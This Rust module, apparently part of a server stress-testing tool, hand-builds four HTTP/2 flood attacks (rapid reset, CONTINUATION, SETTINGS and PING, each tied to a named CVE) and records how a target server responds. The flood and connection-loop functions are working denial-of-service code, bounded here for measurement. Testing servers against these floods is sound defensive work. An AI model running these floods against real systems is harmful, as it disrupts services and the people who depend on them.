//! The HTTP/2 floods (h2c with prior knowledge, RFC 9113 §3.3), frames
//! written by hand: rapid reset (CVE-2023-44487), CONTINUATION
//! (CVE-2024-27316 and its kin), SETTINGS (CVE-2019-9515) and PING
//! (CVE-2019-9512). Each attacking connection writes its frames in
//! batches without reading, as an attacker does, for a bounded time and
//! frame count; then it reads what the server sent, looking for `GOAWAY`
//! or the end of the connection.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use crate::client;

/// The client connection preface (RFC 9113 §3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;

const END_STREAM: u8 = 0x1;
const ACK: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// `CANCEL` (RFC 9113 §7).
const CANCEL: u32 = 0x8;

/// One of the floods.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Flood {
    /// `HEADERS` (a whole `GET /`) then `RST_STREAM(CANCEL)`, on a new
    /// stream each time.
    RapidReset,
    /// One `HEADERS` without `END_HEADERS`, then `CONTINUATION` frames of
    /// 1 KiB of header fields, never ending the block.
    Continuation,
    /// Empty `SETTINGS` frames, each asking for an ACK.
    Settings,
    /// `PING` frames, each asking for a `PING` ACK.
    Ping,
}

impl Flood {
    /// Every flood, in the report's order.
    pub(crate) const ALL: [Flood; 4] = [
        Flood::RapidReset,
        Flood::Continuation,
        Flood::Settings,
        Flood::Ping,
    ];

    /// Its name in the report.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Flood::RapidReset => "rapid reset",
            Flood::Continuation => "CONTINUATION",
            Flood::Settings => "SETTINGS",
            Flood::Ping => "PING",
        }
    }
}

/// What one attacking connection saw.
#[derive(Debug, Default, Clone)]
pub(crate) struct Attacker {
    /// Frames written.
    pub(crate) frames: u64,
    /// Whether the server sent `GOAWAY`, and its error code.
    pub(crate) goaway: Option<u32>,
    /// The last stream identifier of that `GOAWAY`: the highest stream the
    /// server processed (RFC 9113 §6.8), so, for rapid reset, about half
    /// the `HEADERS` + `RST_STREAM` pairs it parsed.
    pub(crate) last_stream: Option<u32>,
    /// The CPU this connection cost its attacking thread (milliseconds,
    /// from the thread's clock-tick counts: a sum over many connections is
    /// meaningful, one alone is not).
    pub(crate) cpu_ms: f64,
    /// Whether the connection ended (EOF, reset, or a write failed).
    pub(crate) closed: bool,
    /// Whether the server stopped reading (a write made no progress for
    /// 2 s): back-pressure.
    pub(crate) stalled: bool,
}

/// Writes `frame` (header and payload) onto `out`.
fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// The HPACK block of `GET http://stress/`: `:method GET`, `:scheme
/// http`, `:path /` from the static table (RFC 7541 Appendix A), and
/// `:authority` as a literal without indexing.
fn get_block() -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x84, 0x01, 6];
    block.extend_from_slice(b"stress");
    block
}

/// Opens an h2c connection: preface, empty `SETTINGS`, then waits for the
/// server's `SETTINGS` and acknowledges it.
fn handshake(addr: SocketAddr) -> std::io::Result<TcpStream> {
    let mut stream = client::connect(addr)?;
    stream.set_write_timeout(Some(Duration::from_secs(2)))?;
    let mut hello = PREFACE.to_vec();
    frame(&mut hello, SETTINGS, 0, 0, &[]);
    stream.write_all(&hello)?;
    // The server's first frame is its SETTINGS (RFC 9113 §3.4).
    let mut header = [0u8; 9];
    stream.read_exact(&mut header)?;
    let len = u32::from_be_bytes([0, header[0], header[1], header[2]]) as usize;
    let mut payload = vec![0u8; len];
    stream.read_exact(&mut payload)?;
    if header[3] != SETTINGS {
        return Err(std::io::Error::other(
            "the server's first frame is not SETTINGS",
        ));
    }
    let mut ack = Vec::new();
    frame(&mut ack, SETTINGS, ACK, 0, &[]);
    stream.write_all(&ack)?;
    Ok(stream)
}

/// One batch of the flood's frames (about 100 frames); `stream_id` is the
/// next client stream identifier (rapid reset).
fn batch(flood: Flood, stream_id: &mut u32, out: &mut Vec<u8>) -> u64 {
    out.clear();
    match flood {
        Flood::RapidReset => {
            let block = get_block();
            for _ in 0..50 {
                frame(out, HEADERS, END_HEADERS | END_STREAM, *stream_id, &block);
                frame(out, RST_STREAM, 0, *stream_id, &CANCEL.to_be_bytes());
                *stream_id = stream_id.wrapping_add(2) & 0x7fff_ffff;
            }
            100
        }
        Flood::Continuation => {
            // Literal header fields without indexing, new name: `a: b`.
            let fields: Vec<u8> = [0x00, 1, b'a', 1, b'b'].repeat(204);
            for _ in 0..100 {
                frame(out, CONTINUATION, 0, 1, &fields);
            }
            100
        }
        Flood::Settings => {
            for _ in 0..100 {
                frame(out, SETTINGS, 0, 0, &[]);
            }
            100
        }
        Flood::Ping => {
            for i in 0..100u64 {
                frame(out, PING, 0, 0, &i.to_be_bytes());
            }
            100
        }
    }
}

/// Attacks for `duration`: one connection after another (at most 100,000),
/// each running `flood` until the server closes it, `max_frames` frames,
/// or the end; returns what each connection saw.
pub(crate) fn attack_for(
    addr: SocketAddr,
    flood: Flood,
    duration: Duration,
    max_frames: u64,
) -> Vec<Attacker> {
    let started = Instant::now();
    let mut attackers = Vec::new();
    while started.elapsed() < duration && attackers.len() < 100_000 {
        let left = duration.saturating_sub(started.elapsed());
        let cpu = crate::process::thread_cpu_ms();
        let mut attacker = attack(addr, flood, left, max_frames);
        attacker.cpu_ms = crate::process::thread_cpu_ms() - cpu;
        attackers.push(attacker);
    }
    attackers
}

/// Runs one attacking connection: `flood` for at most `duration` and
/// `max_frames` frames, then reads for at most 2 s.
fn attack(addr: SocketAddr, flood: Flood, duration: Duration, max_frames: u64) -> Attacker {
    let mut attacker = Attacker::default();
    let Ok(mut stream) = handshake(addr) else {
        attacker.closed = true;
        return attacker;
    };
    let mut out = Vec::new();
    if flood == Flood::Continuation {
        // The block that the CONTINUATION frames never end.
        frame(&mut out, HEADERS, END_STREAM, 1, &get_block());
        if stream.write_all(&out).is_err() {
            attacker.closed = true;
            return attacker;
        }
    }
    let mut stream_id = 1;
    let started = Instant::now();
    while started.elapsed() < duration && attacker.frames < max_frames {
        let frames = batch(flood, &mut stream_id, &mut out);
        match stream.write_all(&out) {
            Ok(()) => attacker.frames += frames,
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                attacker.stalled = true;
                break;
            }
            Err(_) => {
                attacker.closed = true;
                break;
            }
        }
    }
    read_end(&mut stream, &mut attacker);
    attacker
}

/// Reads what the server sent for at most 2 s (or 64 MiB), noting
/// `GOAWAY` and the end of the connection.
fn read_end(stream: &mut TcpStream, attacker: &mut Attacker) {
    let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
    let started = Instant::now();
    let mut pending: Vec<u8> = Vec::new();
    let mut chunk = vec![0u8; 64 * 1024];
    let mut total = 0usize;
    while started.elapsed() < Duration::from_secs(2) && total < 64 << 20 {
        match stream.read(&mut chunk) {
            Ok(0) => {
                attacker.closed = true;
                break;
            }
            Ok(n) => {
                total += n;
                pending.extend_from_slice(&chunk[..n]);
                let mut at = 0;
                while pending.len() - at >= 9 {
                    let h = &pending[at..at + 9];
                    let len = u32::from_be_bytes([0, h[0], h[1], h[2]]) as usize;
                    if pending.len() - at < 9 + len {
                        break;
                    }
                    if h[3] == GOAWAY && len >= 8 {
                        let p = &pending[at + 9..at + 17];
                        attacker.goaway = Some(u32::from_be_bytes([p[4], p[5], p[6], p[7]]));
                        attacker.last_stream =
                            Some(u32::from_be_bytes([p[0], p[1], p[2], p[3]]) & 0x7fff_ffff);
                    }
                    at += 9 + len;
                }
                pending.drain(..at);
            }
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                // Quiet for 500 ms: the server has said what it will say.
                if attacker.goaway.is_some() || started.elapsed() > Duration::from_secs(1) {
                    break;
                }
            }
            Err(_) => {
                attacker.closed = true;
                break;
            }
        }
    }
}

/// The name of an HTTP/2 error code (RFC 9113 §7).
pub(crate) fn error_name(code: u32) -> String {
    match code {
        0x0 => "NO_ERROR".into(),
        0x1 => "PROTOCOL_ERROR".into(),
        0x2 => "INTERNAL_ERROR".into(),
        0x3 => "FLOW_CONTROL_ERROR".into(),
        0x6 => "FRAME_SIZE_ERROR".into(),
        0x9 => "COMPRESSION_ERROR".into(),
        0xb => "ENHANCE_YOUR_CALM".into(),
        other => format!("0x{other:x}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_encoded_as_rfc_9113_section_4_1() {
        let mut out = Vec::new();
        frame(&mut out, RST_STREAM, 0, 3, &CANCEL.to_be_bytes());
        assert_eq!(out, [0, 0, 4, 0x3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
    }

    #[test]
    fn a_rapid_reset_batch_uses_new_odd_streams() {
        let (mut id, mut out) = (1, Vec::new());
        assert_eq!(batch(Flood::RapidReset, &mut id, &mut out), 100);
        assert_eq!(id, 101);
        // HEADERS on stream 1, with END_HEADERS and END_STREAM.
        assert_eq!(&out[3..9], &[HEADERS, END_HEADERS | END_STREAM, 0, 0, 0, 1]);
    }
}
